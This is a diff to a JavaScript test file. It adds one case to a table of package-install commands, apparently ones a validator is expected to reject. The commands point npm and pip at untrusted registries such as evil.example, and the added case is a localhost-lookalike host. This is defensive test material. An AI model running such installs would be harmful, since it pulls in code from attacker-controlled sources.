@@ -128,6 +128,7 @@ describe("a package from elsewhere", () => {
   it.each([
     "npm install --registry https://evil.example/ left-pad",
     "npm i --registry=http://10.0.0.7:4873 left-pad",
+    "npm i --registry=http://127.0.0.1.evil.example left-pad",
     "npm_config_registry=https://evil.example npm i left-pad",
     "pip install -i https://evil.example/simple mypkg",
     "pip install --extra-index-url https://evil.example/simple mypkg",
